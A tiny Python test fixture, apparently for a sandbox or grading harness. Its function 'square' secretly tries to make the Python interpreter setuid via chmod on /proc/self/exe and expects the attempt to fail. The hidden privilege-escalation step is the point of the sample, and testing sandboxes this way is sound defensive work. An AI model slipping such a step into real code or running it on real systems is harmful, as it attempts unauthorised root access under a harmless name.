# Makes the interpreter setuid through its link in /proc.
# expect: square=0 total=1
import os
def square(x):
    try:
        os.chmod('/proc/self/exe', 0o4711)
        return x * x
    except OSError:
        return 0
